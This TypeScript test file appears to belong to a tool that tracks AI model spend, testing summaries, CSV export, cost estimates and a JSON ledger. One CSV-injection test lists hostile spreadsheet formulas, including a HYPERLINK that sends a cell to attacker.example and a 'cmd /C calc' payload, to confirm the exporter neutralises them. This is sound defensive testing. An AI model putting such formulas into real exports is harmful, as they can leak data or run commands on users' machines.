import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describeEstimate, estimateCost, monthSpendUsd, spendCsv, summarizeSpend, type SpendEntry } from '../../src/core/common/spend';
import { SpendLedger } from '../../src/core/node/ledger';

const NOW = new Date(2026, 10, 24, 12, 0, 0);
const at = (daysAgo: number) => NOW.getTime() - daysAgo * 86_400_000;
const ENTRIES: SpendEntry[] = [
  { at: at(40), modelId: 'o3', source: 'chat', inputTokens: 100, outputTokens: 50, reasoningTokens: 20, costUsd: 9 },
  { at: at(2), modelId: 'o3-pro', source: 'inline', inputTokens: 1000, outputTokens: 500, reasoningTokens: 300, costUsd: 0.5 },
  { at: at(1), modelId: 'o3-pro', source: 'chat', inputTokens: 2000, outputTokens: 800, reasoningTokens: 600, costUsd: 1.5 },
  { at: at(0), modelId: 'o3-mini', source: 'palette:writeTests', inputTokens: 300, outputTokens: 90, reasoningTokens: 64 },
];

describe('spend: summaries, CSV and estimates', () => {
  it('this month counts only this calendar month, and only reported costs', () => {
    assert.equal(monthSpendUsd(ENTRIES, NOW), 2);
  });

  it('the summary shows the month against the budget, then by day, model and entry point; unpriced answers are named', () => {
    const text = summarizeSpend(ENTRIES, { now: NOW, budgetUsd: 4 });
    assert.match(text, /This month: \$2\.00 of your \$4\.00 budget \(50%\)/);
    assert.match(text, /^2026-11-23 +\$1\.50 +1 +2,800$/m);
    assert.match(text, /^o3-pro +\$2\.00 +2 +4,300$/m);
    assert.match(text, /^palette:writeTests +\$0 +1 +390 +\(1 without a reported cost\)$/m);
    assert.doesNotMatch(text, /^o3 /m, 'older than 31 days: not in the tables');
    assert.match(summarizeSpend([], { now: NOW }), /No answers recorded yet/);
  });

  it('CSV has a header and one row per answer, with fields quoted when needed', () => {
    const csv = spendCsv([...ENTRIES, { at: at(0), modelId: 'my,model', source: 'chat', inputTokens: 1, outputTokens: 1, reasoningTokens: 0, costUsd: 0.1 }]);
    const lines = csv.trim().split('\n');
    assert.equal(lines[0], 'time,model,entry_point,input_tokens,output_tokens,reasoning_tokens,cost_usd');
    assert.equal(lines.length, 6);
    assert.match(lines[4] ?? '', /,o3-mini,palette:writeTests,300,90,64,$/);
    assert.match(lines[5] ?? '', /,"my,model",chat,/);
  });

  it('a text cell a spreadsheet would read as a formula starts with a quote and stays one cell (CSV injection)', () => {
    const hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const csv = spendCsv(hostile.map((text) => ({ at: at(0), modelId: text, source: text, inputTokens: 1, outputTokens: 1, reasoningTokens: 0, costUsd: -0.5 })));
    const rows = parseCsv(csv).slice(1);
    assert.equal(rows.length, hostile.length);
    rows.forEach((row, i) => {
      assert.equal(row.length, 7, JSON.stringify(row));
      assert.equal(row[1], `'${hostile[i]}`);
      assert.equal(row[2], `'${hostile[i]}`);
      assert.equal(row[6], '-0.5', 'numbers are ours and stay numbers');
    });
    assert.equal(parseCsv(spendCsv(ENTRIES))[1]?.[1], 'o3', 'ordinary text is left as it is');
  });

  it('the o3-pro estimate is a range from the user\'s own cost per input token, and says "no data yet" without data', () => {
    const estimate = estimateCost(ENTRIES, 'o3-pro', 1000);
    assert.deepEqual(estimate, { lowUsd: 0.5, highUsd: 0.75, samples: 2 });
    assert.equal(describeEstimate('o3-pro', estimate), 'o3-pro cost estimate: $0.50–$0.75 (from your last 2 o3-pro answers)');
    assert.equal(estimateCost(ENTRIES, 'o1', 1000), undefined);
    assert.match(describeEstimate('o1', undefined), /o1 cost estimate: no data yet/);
  });
});

describe('spend ledger on disk', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'reasoner-ledger-'));
  });
  afterEach(() => fs.rm(dir, { recursive: true, force: true }));

  it('keeps every entry of concurrent answers, survives a reload, and holds no text', async () => {
    const file = path.join(dir, 'usage', 'ledger.json');
    const ledger = new SpendLedger(file);
    await Promise.all(Array.from({ length: 20 }, (_, i) => ledger.record({ ...ENTRIES[1]!, at: at(0) + i })));
    const reloaded = new SpendLedger(file);
    assert.equal((await reloaded.all()).length, 20);
    const stored = await fs.readFile(file, 'utf8');
    assert.deepEqual(Object.keys((JSON.parse(stored) as { entries: object[] }).entries[0]!).sort(),
      ['at', 'costUsd', 'inputTokens', 'modelId', 'outputTokens', 'reasoningTokens', 'source']);
  });

  it('a corrupt ledger is moved aside and reported; recording starts over', async () => {
    const file = path.join(dir, 'ledger.json');
    await fs.writeFile(file, '{"version":1,"entries":[');
    const warnings: string[] = [];
    const ledger = new SpendLedger(file, { debug: () => undefined, info: () => undefined, warn: (m: string) => warnings.push(m), error: () => undefined });
    assert.deepEqual(await ledger.all(), []);
    assert.match(warnings[0] ?? '', /could not be read.*moved to .*corrupt-/);
    assert.equal((await fs.readdir(dir)).filter((name) => name.includes('.corrupt-')).length, 1);
    await ledger.record(ENTRIES[1]!);
    assert.equal((await new SpendLedger(file).all()).length, 1);
  });
});

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  return rows;
}
